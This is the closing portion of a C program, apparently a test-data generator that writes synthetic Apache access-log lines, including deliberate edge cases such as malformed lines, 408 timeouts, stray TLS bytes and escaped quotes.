      if (chance (2, 100))
        lt -= range (1, 3);         /* logged when the request ended */

      /* a client in an open session (assets after a page), or a new one */
      if (chance (35, 100))
        ci = session[below (8)];
      else
        {
          ci = pick_client ();
          session[below (8)] = ci;
        }
      c = &clients[ci];
      ua = ua_strings[ci];

      k = below (100000);
      if (k < 10)
        {
          out_long_line (c, ua, lt);
          continue;
        }
      if (k < 20)
        {
          out_malformed (c, lt);
          continue;
        }

      out_str (c->addr);
      out_str (" - ");
      out_str (c->user ? user_names[c->user - 1] : "-");
      out_ch (' ');
      out_time (lt);
      out_ch (' ');

      if (k < 120)
        {
          /* Apache's line for a connection that sent nothing */
          out_str ("\"-\" 408 - \"-\" \"-\"\n");
          continue;
        }
      if (k < 135)
        {
          /* TLS spoken to the plain-HTTP port, escaped by Apache */
          out_str ("\"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\" 400 226 \"-\" \"-\"\n");
          continue;
        }

      method = c->is_bot && chance (9, 10) ? "GET" : pick_method ();
      out_ch ('"');
      out_str (method);
      out_ch (' ');
      kind = out_path (method, c->is_bot);
      if (k < 160)
        out_str ("?q=%22quoted%22&name=\\\"O'Brien\\\"");  /* escaped quotes */
      out_ch (' ');
      {
        uint32_t p = below (100);
        out_str (p < 62 ? "HTTP/1.1" : p < 98 ? "HTTP/2.0" : "HTTP/1.0");
      }
      out_str ("\" ");
      status = pick_status (kind, method);
      out_uint ((uint64_t) status);
      out_ch (' ');
      out_bytes (status, kind, method);
      out_ch (' ');
      out_referer (kind, c->is_bot);
      out_str (" \"");
      out_str (ua);
      out_ch ('"');
      if (k >= 99950)
        out_xff ();
      out_ch ('\n');
    }
  out_flush ();
  if (fflush (stdout) != 0 || ferror (stdout))
    {
      fprintf (stderr, "genlog: write error\n");
      return 1;
    }
  return 0;
}
